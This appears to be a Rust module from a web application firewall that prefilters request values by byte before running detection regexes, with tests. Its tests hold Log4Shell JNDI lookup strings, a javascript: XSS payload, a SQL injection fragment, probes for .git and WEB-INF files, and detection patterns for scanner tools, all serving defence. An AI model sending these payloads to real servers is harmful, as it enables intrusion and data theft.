//! The bytes a value must hold for a regex to be worth running on it.
//!
//! Every match of a regex begins with one of the literals that regex-syntax's prefix extraction
//! finds for it, when it finds a finite set (the contract of
//! [`regex_syntax::hir::literal::Extractor`]). So a value that holds no byte of any of those
//! literals cannot match. Of each literal one byte is enough, and the one taken is the least
//! common in requests: for the managed rules' regexes (`\$\{` for Log4Shell, `<` for markup,
//! `://` for remote includes) most values of ordinary traffic hold none, and a scan of a few
//! bytes replaces a regex search. A regex without such a set is always run.

/// A table of the bytes of which a value must hold one.
#[derive(Debug)]
pub(super) struct Needs(Box<[bool; 256]>);

impl Needs {
    /// The bytes for a value to match any of `patterns` (parsed as `regex::bytes` parses them:
    /// Unicode on, not only UTF-8), or `None` where one of them could match without any.
    pub(super) fn of<'p>(patterns: impl IntoIterator<Item = &'p str>) -> Option<Needs> {
        let mut table = Box::new([false; 256]);
        for pattern in patterns {
            let hir = regex_syntax::ParserBuilder::new().utf8(false).build().parse(pattern).ok()?;
            let prefixes = regex_syntax::hir::literal::Extractor::new().extract(&hir);
            for literal in prefixes.literals()? {
                // An empty literal: a match may begin anywhere, with anything.
                let rarest = literal.as_bytes().iter().copied().min_by_key(|b| commonness(*b))?;
                if let Some(slot) = table.get_mut(usize::from(rarest)) {
                    *slot = true;
                }
            }
        }
        Some(Needs(table))
    }

    /// Whether `value` holds one of the bytes.
    pub(super) fn met_by(&self, value: &[u8]) -> bool {
        value.iter().any(|b| self.0.get(usize::from(*b)).copied().unwrap_or(true))
    }
}

/// How common a byte is in the values of ordinary requests (paths, query arguments, headers,
/// cookies), coarsely: the most frequent letters, the other letters, digits, the punctuation of
/// URLs and headers, capitals, then the rest of ASCII's punctuation (`<`, `$`, `{`, quotes), then
/// control and non-ASCII bytes.
fn commonness(b: u8) -> u8 {
    match b {
        b'e' | b't' | b'a' | b'o' | b'i' | b'n' | b's' | b'r' | b'h' | b'l' | b'd' | b'c' | b'u' | b'm' => 250,
        b'a'..=b'z' => 200,
        b'0'..=b'9' => 190,
        b'/' | b'.' | b'-' | b'_' | b'=' | b'&' | b' ' | b',' | b';' | b':' | b'+' | b'%' => 180,
        b'A'..=b'Z' => 150,
        0x21..=0x7e => 50,
        _ => 10,
    }
}

#[cfg(test)]
mod tests {
    use super::Needs;

    #[test]
    fn a_value_without_the_bytes_is_not_searched_and_one_with_them_is() {
        let log4j = Needs::of([r"(?i)\$\{[^\n]{0,60}?(?:jndi|\$\{(?:lower|upper))"]).expect("a literal prefix");
        assert!(!log4j.met_by(b"color=blue&size=m"));
        assert!(log4j.met_by(b"x=${jndi:ldap://evil}"));
        // Case-insensitive literals keep every case's bytes.
        let java = Needs::of([r"(?i)java\.lang\.runtime"]).expect("a literal prefix");
        assert!(java.met_by(b"JAVA.LANG.RUNTIME"));
        assert!(java.met_by(b"java.lang.runtime"));
        // Unicode case folding: `k` also matches the Kelvin sign (U+212A).
        let k = Needs::of([r"(?i)k"]).expect("a literal prefix");
        assert!(k.met_by("\u{212A}".as_bytes()));
        assert!(regex::bytes::Regex::new(r"(?i)k").unwrap().is_match("\u{212A}".as_bytes()));
    }

    #[test]
    fn a_regex_that_may_begin_anywhere_is_always_searched() {
        assert!(Needs::of([r"[a-z0-9%]+x"]).is_none(), "a class too large to enumerate");
        assert!(Needs::of([r"(?:abc)?"]).is_none(), "the empty match");
        assert!(Needs::of([r"\$\{", r".*"]).is_none(), "one pattern of a set without literals");
    }

    /// For every value, a regex that matches it has its bytes there: the table never hides a
    /// match.
    #[test]
    fn the_table_never_hides_a_match() {
        let patterns = [
            r"(?i)\b(?:nessus|nmap|nikto|sqlmap)\b",
            r"(?i)<scr<script|(?:java|vb)script\s*:",
            r"(?i)\$\{[^\n]{0,60}?jndi",
            r"/(?:web-inf|meta-inf)(?:/|$)|/\.(?:git|svn)/",
            r"(?i)\bunion\b[\s\S]{0,100}?\bselect\b",
            r"(?i)^(?:admin|wp-admin)(?:[/.?]|$)",
        ];
        let values: &[&[u8]] = &[
            b"Mozilla/5.0 Nmap Scripting Engine",
            b"<a href='JaVaScRiPt:alert(1)'>",
            b"${${lower:j}ndi:ldap://x}",
            b"${jndi:ldap://x}",
            b"/WEB-INF/web.xml",
            b"/web-inf/web.xml",
            b"/.git/config",
            b"1 UNION ALL SELECT 2",
            b"admin/",
            b"ADMIN.php",
            b"plain benign text",
            b"",
        ];
        for p in patterns {
            let regex = regex::bytes::Regex::new(p).unwrap();
            let needs = Needs::of([p]);
            for v in values {
                if regex.is_match(v) {
                    assert!(needs.as_ref().is_none_or(|n| n.met_by(v)), "{p} matches {v:?}");
                }
            }
        }
    }
}
